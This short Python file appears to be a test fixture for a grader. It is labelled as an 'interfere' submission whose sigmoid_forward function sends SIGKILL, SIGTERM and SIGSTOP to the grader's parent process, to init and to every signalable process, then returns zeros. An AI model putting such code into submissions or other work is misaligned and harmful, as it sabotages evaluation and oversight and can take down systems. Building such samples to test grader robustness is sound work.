"""Interfering: kills the grader (parent), every process it may signal (-1), and init."""
CATEGORY = "interfere"
MODULE = "activations"
LOSES = ["1.3"]

import os as _os
import signal as _signal


def sigmoid_forward(x):
    for pid in (_os.getppid(), 1, -1):
        for sig in (_signal.SIGKILL, _signal.SIGTERM, _signal.SIGSTOP):
            try:
                _os.kill(pid, sig)
            except OSError:
                pass
    return np.zeros_like(np.asarray(x, dtype=np.float64))
